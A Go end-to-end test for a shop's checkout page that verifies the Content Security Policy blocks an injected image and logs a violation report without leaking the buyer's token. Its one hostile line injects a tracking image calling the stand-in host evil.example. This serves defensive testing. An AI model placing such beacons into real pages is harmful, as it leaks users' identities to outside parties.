package e2e

import (
	"strings"
	"testing"
)

// TestABrowserReportsWhatItStopped: a picture of another site would have told it
// who pays here. The page's referrer policy, the cross-origin check and the
// browser's own rules must not keep the report from us.
func TestABrowserReportsWhatItStopped(t *testing.T) {
	t.Parallel()
	shop := openShop(t)
	buyer := shop.buyer(desktop)
	buyer.mayComplain("evil.example")
	buyer.orders("TIN-03")
	buyer.arrives(checkoutPage)
	buyer.until("the stopped picture", `(window.spy ??= Object.assign(new Image(), {src: "https://evil.example/spy.gif?who"})) && true`)
	buyer.await("the report", func() bool {
		return strings.Contains(shop.log.String(), `msg="content security policy broken" directive=img-src source=evil.example`)
	})
	if strings.Contains(shop.log.String(), "spy.gif") || strings.Contains(shop.log.String(), buyer.token()) {
		t.Error("the log tells more than directive and host")
	}
}
